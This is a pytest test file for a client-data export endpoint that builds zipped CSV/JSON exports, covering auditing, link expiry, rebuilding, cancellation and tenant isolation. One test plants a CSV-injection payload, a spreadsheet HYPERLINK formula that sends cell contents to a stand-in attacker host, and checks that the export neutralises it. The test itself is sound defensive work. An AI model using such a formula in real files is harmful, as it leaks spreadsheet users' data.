"""GET /exits/{id}/export: the client's data per the data map as a zip of CSV and JSON with a
Dutch README and the documents' files; a short-lived link or the bytes; audited; rebuilt when
stale; gone once the exit is cancelled or destroyed."""

from __future__ import annotations

import csv
import io
import json
import urllib.request
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from shared.audit import audit_events
from shared.datamap.platform_map import DATA_MAP
from shared.storage import DOCUMENTS, EXPORTS
from tests.support.exit_data import seed_client

ADMIN = "Client.Admin"
NOW = datetime(2026, 1, 10, 9, tzinfo=UTC)


@pytest.fixture
def world(blob_deps, clock):
    deps = blob_deps
    clock.set(NOW)
    with deps.platform.begin() as conn:
        one = seed_client(conn, 1)
        two = seed_client(conn, 2, debtors=1)
    for path in one.blob_paths + two.blob_paths:
        deps.blobs.upload(DOCUMENTS, path, f"inhoud van {path}".encode(), overwrite=True)
    return deps, one, two


def give_notice(client, client_id=1) -> str:
    resp = client.post("exits", {"client_id": client_id, "choice": "delete"}, role=ADMIN, client_id=client_id)
    assert resp.status == 201, resp.body
    return resp.json()["id"]


def actions(deps, exit_id) -> list[str]:
    with deps.store.connect() as conn:
        return [a for (a,) in conn.execute(select(audit_events.c.action).where(  # not the access audit
            audit_events.c.object_id == exit_id, audit_events.c.action.not_like("access.%")).order_by(
            audit_events.c.seq))]


def test_download_holds_every_client_table_as_csv_and_json(client, world):
    deps, one, _ = world
    exit_id = give_notice(client)
    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "1"})
    assert resp.status == 200, resp.body
    assert resp.header("Content-Disposition").startswith("attachment")
    zf = zipfile.ZipFile(io.BytesIO(resp.body))
    names = zf.namelist()
    assert names[0] == "contact_registrations.csv"  # what the client asks for first
    for tm in DATA_MAP.client_scoped():
        rows = list(csv.DictReader(io.StringIO(zf.read(f"{tm.table}.csv").decode("utf-8"))))
        records = json.loads(zf.read(f"{tm.table}.json"))
        assert len(rows) == len(records) == one.rows[tm.table], tm.table
        assert {str(r["id"]) for r in records} == {r["id"] for r in rows}
    readme = zf.read("README.txt").decode("utf-8")
    assert "contactregistraties" in readme.lower() and "EXPORT VAN DE GEGEVENS VAN CLIËNT 1" in readme
    docs = [n for n in names if n.startswith("documenten/")]
    assert len(docs) == len(one.blob_paths)
    assert zf.read(docs[0]).decode().startswith("inhoud van client1/")
    everything = b"".join(zf.read(n) for n in names)
    assert b"client2" not in everything  # nothing of the other client
    payments = json.loads(zf.read("payments.json"))
    assert payments[0]["amount"] == "25.00"  # money as exact decimal text
    assert actions(deps, exit_id) == ["exit.notice_given", "exit.export_built", "exit.export_downloaded"]


def test_link_is_short_lived_works_and_every_issue_is_audited(client, world, clock):
    deps, _, _ = world
    now = datetime.now(UTC).replace(microsecond=0)  # the storage service checks the link against real time
    clock.set(now)
    exit_id = give_notice(client)
    first = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    assert first.status == 200, first.body
    body = first.json()
    assert datetime.fromisoformat(body["expires_at"]) == now + timedelta(minutes=15)
    with urllib.request.urlopen(body["url"], timeout=10) as fetched:
        assert zipfile.ZipFile(io.BytesIO(fetched.read())).namelist()
    client.get(f"exits/{exit_id}/export", role="Privacy.Staff")
    assert actions(deps, exit_id) == ["exit.notice_given", "exit.export_built", "exit.export_link_issued",
                                      "exit.export_link_issued"]


def test_a_stale_export_is_rebuilt_and_the_old_file_removed(client, world, clock):
    deps, _, _ = world
    exit_id = give_notice(client)
    client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    old = client.get(f"exits/{exit_id}", role=ADMIN, client_id=1).json()["export"]
    clock.advance(timedelta(hours=1))
    client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    assert client.get(f"exits/{exit_id}", role=ADMIN, client_id=1).json()["export"] == old  # fresh enough
    clock.advance(timedelta(hours=24))
    client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    new = client.get(f"exits/{exit_id}", role=ADMIN, client_id=1).json()["export"]
    assert new["built_at"] > old["built_at"]
    assert len(deps.blobs.list(EXPORTS, prefix=f"1/{exit_id}/")) == 1


def test_cancel_removes_the_export_and_it_is_gone(client, world):
    deps, _, _ = world
    exit_id = give_notice(client)
    client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    assert client.post(f"exits/{exit_id}/cancel", role=ADMIN, client_id=1).status == 200
    assert deps.blobs.list(EXPORTS, prefix=f"1/{exit_id}/") == []
    gone = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    assert gone.status == 410 and gone.json()["title"] == "Gone"


def test_another_clients_export_is_a_404_and_builds_nothing(client, world):
    deps, _, _ = world
    exit_id = give_notice(client, 2)
    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "1"})
    assert resp.status == 404
    assert deps.blobs.list(EXPORTS, prefix=f"2/{exit_id}/") == []
    assert actions(deps, exit_id) == ["exit.notice_given"]


def test_bad_query_is_422(client, world):
    exit_id = give_notice(client)
    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "misschien"})
    assert resp.status == 422 and resp.json()["errors"][0]["field"] == "download"


def test_a_debtor_named_like_a_formula_is_neutralised_in_the_csv(client, world):
    """CSV injection: a debtor-controlled name must not run in the client's spreadsheet."""
    from shared.datamap.discovery import table

    deps, _, _ = world
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    with deps.platform.begin() as conn:
        debtors = table("debtors")
        first = conn.execute(select(debtors.c.id).where(debtors.c.client_id == 1).limit(1)).scalar_one()
        conn.execute(debtors.update().where(debtors.c.id == first).values(name=evil, phone="+31 6 12345678"))
    exit_id = give_notice(client)
    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "1"})
    zf = zipfile.ZipFile(io.BytesIO(resp.body))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(zf.read("debtors.csv").decode("utf-8")))}
    assert rows[str(first)]["name"] == "'" + evil and rows[str(first)]["phone"] == "'+31 6 12345678"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values()
                   if v and not v.lstrip("-").replace(".", "").isdigit())
    as_json = {r["id"]: r for r in json.loads(zf.read("debtors.json"))}
    assert as_json[first]["name"] == evil  # JSON is data, not a sheet: kept as it is
